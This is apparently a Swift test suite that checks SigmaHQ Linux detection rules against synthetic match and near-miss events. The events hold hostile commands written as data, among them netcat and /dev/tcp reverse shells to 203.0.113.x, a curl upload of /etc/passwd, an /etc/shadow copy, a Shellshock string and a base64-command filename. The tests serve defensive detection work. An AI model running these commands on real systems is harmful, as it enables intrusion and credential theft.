import Foundation
import Testing

@testable import HerdwatchDetection

/// One SigmaHQ rule, an event it must match and a near miss it must not.
struct SigmaCase: Sendable, CustomTestStringConvertible {
    /// Relative to the corpus root.
    let path: String
    let match: String
    let miss: String
    /// What the near miss changes.
    let reason: String

    var testDescription: String { (path as NSString).lastPathComponent + ": " + reason }
}

private func pc(_ file: String) -> String { "rules/linux/process_creation/" + file }
private func auditd(_ file: String) -> String { "rules/linux/auditd/" + file }
private func fe(_ file: String) -> String { "rules/linux/file_event/" + file }
private func net(_ file: String) -> String { "rules/linux/network_connection/" + file }
private func builtin(_ file: String) -> String { "rules/linux/builtin/" + file }
private func et(_ file: String) -> String { "rules-emerging-threats/" + file }

private func P(
    _ executable: String, _ args: [String], parent: String? = "/usr/bin/bash", parentArgs: [String]? = nil, user: String = "root"
) -> String {
    ECS.process(executable, args, parent: parent, parentArgs: parentArgs, user: user)
}
private let sudoPrefix = "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND="

/// A syscall event whose SYSCALL record has `extra` fields.
private func syscall(_ name: String, _ number: String, exe: String, action: String? = nil, _ extra: [String: String] = [:], key: String? = nil) -> String {
    ECS.audit(
        action ?? name, syscall: name, records: [ECS.syscallRecord(number, exe: exe, extra: extra, key: key)],
        process: ["pid": 42, "executable": exe, "name": ECS.basename(exe)])
}

private func accountRecord(_ type: String) -> String {
    ECS.audit(
        "account-changed",
        records: [["type": type, "pid": "900", "uid": "0", "auid": "1000", "ses": "3", "op": "adding user", "id": "1001", "exe": "/usr/sbin/useradd", "res": "success"]],
        process: ["pid": 900, "executable": "/usr/sbin/useradd", "name": "useradd"])
}

enum SigmaHQCases {
    static let processCreation: [SigmaCase] = [
        SigmaCase(
            path: pc("proc_creation_lnx_base64_decode.yml"),
            match: P("/usr/bin/base64", ["base64", "-d", "/tmp/p.b64"]), miss: P("/usr/bin/base32", ["base32", "-d", "/tmp/p.b64"]),
            reason: "another basename (base32)"),
        SigmaCase(
            path: pc("proc_creation_lnx_awk_shell_spawn.yml"),
            match: P("/usr/bin/gawk", ["gawk", "BEGIN {system(\"/bin/sh -i\")}"]), miss: P("/usr/bin/gawk", ["gawk", "BEGIN {system(\"id\")}"]),
            reason: "awk runs a command but no shell"),
        SigmaCase(
            path: pc("proc_creation_lnx_chattr_immutable_removal.yml"),
            match: P("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]), miss: P("/usr/bin/chattr", ["chattr", "+i", "/etc/passwd"]),
            reason: "+i sets the flag instead of removing it"),
        SigmaCase(
            path: pc("proc_creation_lnx_cp_passwd_or_shadow_tmp.yml"),
            match: P("/usr/bin/cp", ["cp", "/etc/shadow", "/tmp/s"]), miss: P("/usr/bin/cp", ["cp", "/etc/shadow", "/root/s"]),
            reason: "the copy goes to /root, not /tmp"),
        SigmaCase(
            path: pc("proc_creation_lnx_netcat_reverse_shell.yml"),
            match: P("/usr/bin/nc", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]),
            miss: P("/usr/bin/socat", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]),
            reason: "the same arguments run by socat, not nc"),
        SigmaCase(
            path: pc("proc_creation_lnx_python_pty_spawn.yml"),
            match: P("/usr/bin/python3.11", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
            miss: P("/usr/bin/python3.11", ["python3", "-c", "import pty; print(pty)"]),
            reason: "pty is imported but nothing is spawned"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_java_children.yml"),
            match: P("/usr/bin/curl", ["curl", "http://203.0.113.5/x"], parent: "/usr/lib/jvm/java-17/bin/java"),
            miss: P("/usr/bin/curl", ["curl", "http://203.0.113.5/x"], parent: "/usr/lib/jvm/java-17/bin/javac"),
            reason: "parent is javac, not java"),
        SigmaCase(
            path: pc("proc_creation_lnx_webshell_detection.yml"),
            match: P("/usr/bin/whoami", ["whoami"], parent: "/usr/sbin/nginx"), miss: P("/usr/bin/whoami", ["whoami"], parent: "/usr/sbin/sshd"),
            reason: "parent is sshd, not a web server"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_history_delete.yml"),
            match: P("/usr/bin/rm", ["rm", "-f", "/root/.bash_history"]), miss: P("/usr/bin/rm", ["rm", "-f", "/root/.bash_profile"]),
            reason: "removes .bash_profile, not a history file"),
        SigmaCase(
            path: pc("proc_creation_lnx_find_shell_execution.yml"),
            match: P("/usr/bin/find", ["find", ".", "-exec", "/bin/sh", "-p", ";"]),
            miss: P("/usr/bin/find", ["find", "/tmp", "-exec", "/bin/sh", "-p", ";"]),
            reason: "searches /tmp, so no ' . ' in the command line"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_exec_from_dev_shm.yml"),
            match: P("/dev/shm/.x/miner", ["miner"]), miss: P("/run/shm/.x/miner", ["miner"]),
            reason: "runs from /run/shm, not /dev/shm"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_curl_useragent.yml"),
            match: P("/usr/bin/curl", ["curl", "-A", "Mozilla/5.0", "http://a"]), miss: P("/usr/bin/curl", ["curl", "-H", "X-A: b", "http://a"]),
            reason: "a header, not a user agent"),
        SigmaCase(
            path: pc("proc_creation_lnx_wget_download_suspicious_directory.yml"),
            match: P("/usr/bin/wget", ["wget", "-O", "/tmp/x", "http://a/x"]), miss: P("/usr/bin/wget", ["wget", "-o", "/tmp/log", "http://a/x"]),
            reason: "-o (log file) where the case-sensitive regex wants -O"),
        SigmaCase(
            path: pc("proc_creation_lnx_usermod_susp_group.yml"),
            match: P("/usr/sbin/usermod", ["usermod", "-aG", "sudoers", "bob"]), miss: P("/usr/sbin/usermod", ["usermod", "-aG", "docker", "bob"]),
            reason: "added to docker, not sudoers or root"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml"),
            match: P("/usr/bin/bash", ["bash"], parent: "/tmp/.x/dropper"), miss: P("/usr/bin/bash", ["bash"], parent: "/opt/app/launcher"),
            reason: "parent outside /tmp"),
        SigmaCase(
            path: pc("proc_creation_lnx_crontab_removal.yml"),
            match: P("/usr/bin/crontab", ["crontab", "-r"]), miss: P("/usr/bin/crontab", ["crontab", "-l"]),
            reason: "lists instead of removing"),
        SigmaCase(
            path: pc("proc_creation_lnx_pnscan_binary_cli_pattern.yml"),
            match: ECS.process("/usr/bin/pnscan", ["pnscan", "-W", "aa bb cc", "10.0.0.0/24", "80"], commandLine: "pnscan -W \"aa bb cc\" 10.0.0.0/24 80"),
            miss: ECS.process("/usr/bin/pnscan", ["pnscan", "-w", "aa bb cc", "10.0.0.0/24", "80"], commandLine: "pnscan -w \"aa bb cc\" 10.0.0.0/24 80"),
            reason: "-w where the case-sensitive regex wants -W"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_inod_listing.yml"),
            match: P("/usr/bin/ls", ["ls", "-ldi", "/"]), miss: P("/usr/bin/ls", ["ls", "-li", "/"]),
            reason: "no -d, so the second regex does not hold"),
        SigmaCase(
            path: pc("proc_creation_lnx_auditctl_clear_rules.yml"),
            match: P("/usr/sbin/auditctl", ["auditctl", "-D"]), miss: P("/usr/sbin/auditctl", ["auditctl", "-d", "always,exit"]),
            reason: "-d deletes one rule; the regex is case-sensitive"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_curl_fileupload.yml"),
            match: P("/usr/bin/curl", ["curl", "-F", "f=@/etc/passwd", "http://203.0.113.9/u"]),
            miss: P("/usr/bin/curl", ["curl", "-F", "f=@/etc/passwd", "http://127.0.0.1/u"]),
            reason: "uploads to localhost (filter)"),
        SigmaCase(
            path: pc("proc_creation_lnx_susp_interactive_bash.yml"),
            match: P("/usr/bin/whoami", ["whoami"], parent: "/usr/bin/bash", parentArgs: ["bash", "-i"]),
            miss: P("/usr/bin/whoami", ["whoami"], parent: "/usr/bin/bash", parentArgs: ["bash", "-il"]),
            reason: "parent command line is 'bash -il', not exactly 'bash -i'"),
    ]

    static let auditdRules: [SigmaCase] = [
        SigmaCase(
            path: auditd("execve/lnx_auditd_chattr_immutable_removal.yml"),
            match: P("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]), miss: P("/usr/bin/chattr", ["chattr", "+i", "/etc/passwd"]),
            reason: "EXECVE a1 is +i"),
        SigmaCase(
            path: auditd("execve/lnx_auditd_susp_cmds.yml"),
            match: P("/usr/bin/chmod", ["chmod", "777", "/tmp/x"]), miss: P("/usr/bin/chmod", ["chmod", "755", "/tmp/x"]),
            reason: "EXECVE a1 is 755, the rule's number is 777"),
        SigmaCase(
            path: auditd("execve/lnx_auditd_hidden_files_directories.yml"),
            match: P("/usr/bin/touch", ["touch", "/tmp/.hidden"]), miss: P("/usr/bin/touch", ["touch", "/tmp/visible"]),
            reason: "the file name has no leading dot"),
        SigmaCase(
            path: auditd("execve/lnx_auditd_binary_padding.yml"),
            match: P("/usr/bin/dd", ["dd", "if=/dev/zero", "bs=1", "count=1"]),
            miss: P("/usr/bin/dd", ["dd", "if=/dev/zero", "of=/tmp/x", "count=1"]),
            reason: "an of= argument (the rule's keyword filter)"),
        SigmaCase(
            path: auditd("execve/lnx_auditd_find_cred_in_files.yml"),
            match: P("/usr/bin/grep", ["grep", "-r", "password", "/etc"]), miss: P("/usr/bin/grep", ["grep", "-r", "passwd", "/etc"]),
            reason: "only one of the |all keywords"),
        SigmaCase(
            path: auditd("path/lnx_auditd_ld_so_preload_mod.yml"),
            match: ECS.file("file-modified", "/etc/ld.so.preload"), miss: ECS.file("file-modified", "/etc/ld.so.conf"),
            reason: "PATH name is ld.so.conf"),
        SigmaCase(
            path: auditd("path/lnx_auditd_systemd_service_creation.yml"),
            match: ECS.file("file-created", "/etc/systemd/system/evil.service"),
            miss: ECS.file("file-created", "/etc/systemd/system/evil.service", nametype: "NORMAL"),
            reason: "PATH nametype NORMAL (an existing unit), not CREATE"),
        SigmaCase(
            path: auditd("path/lnx_auditd_unix_shell_configuration_modification.yml"),
            match: ECS.file("file-modified", "/home/alice/.bashrc"), miss: ECS.file("file-modified", "/home/alice/.bashrc.orig"),
            reason: "a backup beside .bashrc"),
        SigmaCase(
            path: auditd("path/lnx_auditd_auditing_config_change.yml"),
            match: ECS.file("file-modified", "/etc/audit/rules.d/x.rules"), miss: ECS.file("file-modified", "/etc/audit.bak/x.rules"),
            reason: "a directory beside /etc/audit"),
        SigmaCase(
            path: auditd("syscall/lnx_auditd_web_rce.yml"),
            match: syscall("execve", "59", exe: "/usr/bin/id", action: "process-started", ["euid": "33", "uid": "33"]),
            miss: syscall("execve", "59", exe: "/usr/bin/id", action: "process-started", ["euid": "1000", "uid": "33"]),
            reason: "SYSCALL euid 1000, not the web server's 33"),
        SigmaCase(
            path: auditd("syscall/lnx_auditd_susp_exe_folders.yml"),
            match: syscall("execve", "59", exe: "/home/bob/public_html/x", action: "process-started"),
            miss: syscall("execve", "59", exe: "/home/bob/private/x", action: "process-started"),
            reason: "exe outside public_html"),
        SigmaCase(
            path: auditd("syscall/lnx_auditd_create_account.yml"),
            match: syscall("execve", "59", exe: "/usr/sbin/useradd", action: "process-started"),
            miss: syscall("execve", "59", exe: "/usr/sbin/usermod", action: "process-started"),
            reason: "SYSCALL exe usermod"),
        SigmaCase(
            path: auditd("syscall/lnx_auditd_create_account.yml"),
            match: accountRecord("ADD_USER"), miss: accountRecord("DEL_USER"),
            reason: "record type DEL_USER, not ADD_USER"),
        SigmaCase(
            path: auditd("lnx_auditd_disable_aslr_protection.yml"),
            match: syscall("personality", "135", exe: "/usr/bin/setarch", ["a0": "40000"]),
            miss: syscall("personality", "135", exe: "/usr/bin/setarch", ["a0": "0"]),
            reason: "personality(0) leaves ASLR on"),
        SigmaCase(
            path: auditd("lnx_auditd_susp_c2_commands.yml"),
            match: syscall("execve", "59", exe: "/usr/bin/nmap", action: "process-started", key: "susp_activity"),
            miss: syscall("execve", "59", exe: "/usr/bin/nmap", action: "process-started", key: "exec"),
            reason: "audit key exec"),
    ]

    static let fileEvents: [SigmaCase] = [
        SigmaCase(
            path: fe("file_event_lnx_persistence_sudoers_files.yml"),
            match: ECS.file("file-created", "/etc/sudoers.d/README.dpkg-new", by: "/usr/bin/vi"),
            miss: ECS.file("file-created", "/etc/sudoers.d/README.dpkg-new", by: "/usr/bin/dpkg"),
            reason: "dpkg writing its own file (filter)"),
        SigmaCase(
            path: fe("file_event_lnx_susp_cron_file_created.yml"),
            match: ECS.file("file-created", "/etc/cron.daily/backdoor"), miss: ECS.file("file-created", "/etc/cron.daily/apt"),
            reason: "apt's own cron job (filter)"),
        SigmaCase(
            path: fe("file_event_lnx_susp_shell_script_under_profile_directory.yml"),
            match: ECS.file("file-renamed", "/etc/profile.d/evil.sh"), miss: ECS.file("file-renamed", "/etc/profile.d/evil.sh.txt"),
            reason: "not a .sh or .csh name"),
        SigmaCase(
            path: fe("file_event_lnx_wget_download_file_in_tmp_dir.yml"),
            match: ECS.file("file-created", "/tmp/payload", by: "/usr/bin/wget"), miss: ECS.file("file-created", "/tmp/payload", by: "/usr/bin/curl"),
            reason: "written by curl, not wget"),
        SigmaCase(
            path: fe("file_event_lnx_triple_cross_rootkit_lock_file.yml"),
            match: ECS.file("file-created", "/tmp/rootlog"), miss: ECS.file("file-created", "/tmp/rootlog.1"),
            reason: "the rule wants exactly /tmp/rootlog"),
        SigmaCase(
            path: fe("file_event_lnx_susp_filename_with_embedded_base64_command.yml"),
            match: ECS.file("file-created", "/tmp/{echo,YmFzaA==}|{base64,-d}|bash"), miss: ECS.file("file-created", "/tmp/echo_YmFzaA"),
            reason: "no brace expansion in the name"),
        SigmaCase(
            path: "rules-threat-hunting/linux/file/file_event/file_event_lnx_python_path_configuration_files.yml",
            match: ECS.file("file-created", "/usr/lib/python3.11/site-packages/evil.pth"),
            miss: ECS.file("file-created", "/usr/lib/python3.4/site-packages/evil.pth"),
            reason: "python 3.4 is outside the regex's versions"),
        SigmaCase(
            path: "rules-threat-hunting/linux/file/file_event/file_event_lnx_susp_long_filename_pattern.yml",
            match: ECS.file("file-modified", "/home/alice/" + String(repeating: "a", count: 100)),
            miss: ECS.file("file-modified", "/home/alice/" + String(repeating: "a", count: 99)),
            reason: "a 99-character name, one short of {100,}"),
    ]

    static let networkConnections: [SigmaCase] = [
        SigmaCase(
            path: net("net_connection_lnx_back_connect_shell_dev.yml"),
            match: ECS.network("/usr/bin/bash", ip: "203.0.113.9", port: 4444), miss: ECS.network("/usr/bin/bash", ip: "127.0.0.1", port: 4444),
            reason: "to localhost (filter)"),
        SigmaCase(
            path: net("net_connection_lnx_susp_malware_callback_port.yml"),
            match: ECS.network("/tmp/x", ip: "203.0.113.9", port: 4444), miss: ECS.network("/tmp/x", ip: "fe80::1", port: 4444),
            reason: "an IPv6 link-local peer (cidr filter fe80::/10)"),
        SigmaCase(
            path: net("net_connection_lnx_susp_malware_callback_port.yml"),
            match: ECS.network("/tmp/x", ip: "2001:db8::9", port: 2222), miss: ECS.network("/tmp/x", ip: "2001:db8::9", port: 2223),
            reason: "port 2223 is not in the list"),
        SigmaCase(
            path: net("net_connection_lnx_susp_malware_callback_port.yml"),
            match: ECS.network("/tmp/x", ip: "203.0.113.9", port: 4444),
            miss: ECS.network("/tmp/x", ip: "203.0.113.9", port: 4444, action: "network-accepted"),
            reason: "accepted, not initiated"),
        SigmaCase(
            path: net("net_connection_lnx_domain_localtonet_tunnel.yml"),
            match: ECS.network("/usr/bin/ssh", ip: "203.0.113.9", port: 443, domain: "abc.localto.net"),
            miss: ECS.network("/usr/bin/ssh", ip: "203.0.113.9", port: 443, domain: "abc.localto.net", action: "network-accepted"),
            reason: "accepted, not initiated"),
        SigmaCase(
            path: net("net_connection_lnx_crypto_mining_indicators.yml"),
            match: ECS.network("/tmp/xmrig", ip: "203.0.113.9", port: 3333, domain: "pool.minexmr.com"),
            miss: ECS.network("/tmp/xmrig", ip: "203.0.113.9", port: 3333, domain: "pool.minexmr.com.example.org"),
            reason: "the pool's name only as a prefix"),
        SigmaCase(
            path: net("net_connection_lnx_ngrok_tunnel.yml"),
            match: ECS.network("/usr/local/bin/ngrok", ip: "203.0.113.9", port: 443, domain: "x.tunnel.us.ngrok.com"),
            miss: ECS.network("/usr/local/bin/ngrok", ip: "203.0.113.9", port: 443, domain: "x.tunnel.xx.ngrok.com"),
            reason: "a region ngrok does not list"),
    ]

    static let keywordRules: [SigmaCase] = [
        SigmaCase(
            path: builtin("sshd/lnx_sshd_susp_ssh.yml"),
            match: ECS.authLog("Corrupted MAC on input. [preauth]", action: "auth-log-message", outcome: "unknown", user: nil),
            miss: ECS.authLog("Connection closed by 203.0.113.9 port 40022 [preauth]", action: "auth-log-message", outcome: "unknown", user: nil),
            reason: "an ordinary sshd line"),
        SigmaCase(
            path: builtin("lnx_shellshock.yml"),
            match: ECS.authLog("Invalid user () { :; }; /bin/bash -c id from 203.0.113.9 port 40022", action: "user-authenticated"),
            miss: ECS.authLog("Invalid user () { :; } /bin/bash -c id from 203.0.113.9 port 40022", action: "user-authenticated"),
            reason: "no ';' after the function body"),
        SigmaCase(
            path: builtin("lnx_susp_jexboss.yml"),
            match: ECS.authLog(
                sudoPrefix + "/usr/bin/bash -c /bin/bash -i >&/dev/tcp/203.0.113.9/4444 0>&1", action: "user-command", program: "sudo",
                outcome: "success"),
            miss: ECS.authLog(sudoPrefix + "/usr/bin/bash -c /bin/bash -i", action: "user-command", program: "sudo", outcome: "success"),
            reason: "only one of the |all keywords"),
        SigmaCase(
            path: builtin("lnx_privileged_user_creation.yml"),
            match: ECS.authLog(
                "new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash, from=/dev/pts/0", action: "account-changed",
                program: "useradd", outcome: "success"),
            miss: ECS.authLog(
                "new user: name=john, UID=1001, GID=1001, home=/home/john, shell=/bin/bash, from=/dev/pts/0", action: "account-changed",
                program: "useradd", outcome: "success"),
            reason: "an unprivileged uid and gid"),
        SigmaCase(
            path: builtin("lnx_clear_syslog.yml"),
            match: ECS.authLog(sudoPrefix + "/usr/bin/rm -f /var/log/syslog", action: "user-command", program: "sudo", outcome: "success"),
            miss: ECS.authLog(sudoPrefix + "/usr/bin/rm -f /var/log/syslog.1", action: "user-command", program: "sudo", outcome: "success"),
            reason: "a rotated log (falsepositives keyword)"),
    ]

    static let emergingThreats: [SigmaCase] = [
        SigmaCase(
            path: et("2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml"),
            match: ECS.authLog(
                "alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id", action: "user-command", program: "sudo",
                outcome: "success", effectiveUser: "#-1", commandLine: "/usr/bin/id"),
            miss: ECS.authLog(
                "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", action: "user-command", program: "sudo",
                outcome: "success", effectiveUser: "root", commandLine: "/usr/bin/id"),
            reason: "sudo to root by name"),
        SigmaCase(
            path: et("2024/Exploits/CVE-2024-3094/proc_creation_lnx_exploit_cve_2024_3094_sshd_child_process.yml"),
            match: P("/usr/bin/bash", ["bash", "-c", "id"], parent: "/usr/sbin/sshd", user: "root"),
            miss: P("/usr/bin/bash", ["bash", "-c", "id"], parent: "/usr/sbin/sshd", user: "alice"),
            reason: "runs as alice, not root"),
        SigmaCase(
            path: et("2025/Exploits/CVE-2025-55182/proc_creation_lnx_exploit_cve_2025_55182_susp_nodejs_server_child_process.yml"),
            match: P("/bin/sh", ["/bin/sh", "-c", "whoami"], parent: "/usr/bin/node", parentArgs: ["node", "/srv/app/node_modules/.bin/next", "start"]),
            miss: P("/bin/sh", ["/bin/sh", "-c", "whoami"], parent: "/usr/bin/node", parentArgs: ["node", "/srv/app/server.js"]),
            reason: "the node parent is not a Next.js/React server"),
        SigmaCase(
            path: et("2026/Exploits/CVE-2026-31431/lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation.yml"),
            match: syscall("socket", "41", exe: "/tmp/exploit", ["a0": "26", "a1": "5"]),
            miss: syscall("socket", "41", exe: "/usr/sbin/cryptsetup", ["a0": "26", "a1": "5"]),
            reason: "cryptsetup (filter)"),
        SigmaCase(
            path: et("2026/Exploits/CVE-2026-31431/proc_creation_lnx_exploit_cve_2026_31431_copyfail.yml"),
            match: P("/usr/bin/kmod", ["modprobe", "crypto-authencesn(hmac(sha256),cbc(aes))"]),
            miss: P("/usr/bin/kmod", ["modprobe", "crypto-authenc(hmac(sha256),cbc(aes))"]),
            reason: "authenc, not authencesn"),
        SigmaCase(
            path: et("2026/Malware/Axios-NPM-Compromise/file_event_lnx_axios_npm_compromise_indicators.yml"),
            match: ECS.file("file-created", "/tmp/ld.py", by: "/usr/bin/curl"), miss: ECS.file("file-created", "/tmp/ld.py", by: "/usr/bin/wget"),
            reason: "written by wget, not curl"),
    ]

    static let all = processCreation + auditdRules + fileEvents + networkConnections + keywordRules + emergingThreats

    /// Every rule of the corpus in one set: routing and indexes see the rule among all the others.
    static let corpus: RuleSet? = {
        let loaded = SigmaLoader.load(path: SigmaCorpus.root)
        return try? RuleSet(rules: loaded.rules, correlations: loaded.correlations)
    }()
}

@Suite struct SigmaHQRuleTests {
    @Test func tableCoversEveryLogsource() {
        let paths = SigmaHQCases.all.map(\.path)
        func count(_ part: String) -> Int { Set(paths.filter { $0.contains(part) }).count }
        #expect(Set(paths).count >= 32)
        #expect(count("/process_creation/") >= 12)
        #expect(count("/auditd/") >= 8)
        #expect(count("/auditd/execve/") >= 1 && count("/auditd/path/") >= 1 && count("/auditd/syscall/") >= 1)
        #expect(count("file_event") >= 4)
        #expect(count("/network_connection/") >= 3)
        #expect(count("/builtin/") >= 3)
        #expect(count("rules-emerging-threats/") >= 2)
    }

    @Test(arguments: SigmaHQCases.all)
    func ruleMatchesItsEventAndNotTheNearMiss(_ sigma: SigmaCase) throws {
        let loaded = SigmaLoader.load(path: SigmaCorpus.path(sigma.path))
        try #require(loaded.errors.isEmpty, "\(loaded.errors)")
        try #require(loaded.rules.count == 1)
        let rule = loaded.rules[0]

        // The rule alone.
        var alone = Detector(ruleSet: try RuleSet(rules: loaded.rules))
        let matched = try #require(JSONSubject(json: sigma.match))
        let nearMiss = try #require(JSONSubject(json: sigma.miss))
        let alerts = alone.process(matched)
        #expect(alerts.map(\.ruleID) == [rule.id], "match: \(sigma.match)")
        #expect(alerts.first?.ruleTitle == rule.title)
        #expect(alerts.first?.host == "web1")
        #expect(alone.process(nearMiss).map(\.ruleID) == [], "near miss (\(sigma.reason)): \(sigma.miss)")

        // Among every corpus rule, through the same indexes as in production.
        let corpus = try #require(SigmaHQCases.corpus)
        var all = Detector(ruleSet: corpus)
        #expect(all.process(matched).filter { $0.ruleID == rule.id }.count == 1, "corpus set, match: \(sigma.match)")
        #expect(!all.process(nearMiss).contains { $0.ruleID == rule.id }, "corpus set, near miss (\(sigma.reason))")
    }
}

extension SigmaHQRuleTests {
    /// An alert names its rule and carries what an analyst opens first: the process, the user, the record.
    @Test func alertDescribesTheRuleAndTheEvent() throws {
        let loaded = SigmaLoader.load(path: SigmaCorpus.path("rules/linux/auditd/execve/lnx_auditd_susp_cmds.yml"))
        var detector = Detector(ruleSet: try RuleSet(rules: loaded.rules))
        let event = ECS.process("/usr/bin/chmod", ["chmod", "777", "/tmp/x"], user: "alice", id: "evt-7")
        let subject = try #require(JSONSubject(json: event))
        let alert = try #require(detector.process(subject).first)
        #expect(alert.ruleID == "1543ae20-cbdf-4ec1-8d12-7664d667a825")
        #expect(alert.ruleTitle == loaded.rules.first?.title)
        #expect(alert.level == .medium)
        #expect(alert.ruleFile.hasSuffix("/lnx_auditd_susp_cmds.yml"))
        #expect(alert.correlation == nil)
        #expect(alert.eventIDs == ["evt-7"])
        #expect(alert.host == "web1")
        #expect(alert.pid == 42)
        #expect(alert.executable == "/usr/bin/chmod")
        #expect(alert.commandLine == "chmod 777 /tmp/x")
        #expect(alert.userName == "alice")
        #expect(alert.recordType == "EXECVE")
        #expect(alert.timeMilliseconds == JSONSubject.milliseconds(ECS.start))

        let json = try #require(try JSONSerialization.jsonObject(with: Data(alert.json().utf8)) as? [String: Any])
        #expect(json["@timestamp"] as? String == ECS.start)
        #expect((json["event"] as? [String: Any])?["kind"] as? String == "alert")
        #expect((json["event"] as? [String: Any])?["severity"] as? Int == 47)
        #expect((json["rule"] as? [String: Any])?["id"] as? String == alert.ruleID)
        #expect((json["process"] as? [String: Any])?["executable"] as? String == "/usr/bin/chmod")
        let herdwatch = (json["herdwatch"] as? [String: Any])?["alert"] as? [String: Any]
        #expect(herdwatch?["events"] as? [String] == ["evt-7"])
        #expect(herdwatch?["record_type"] as? String == "EXECVE")
    }
}
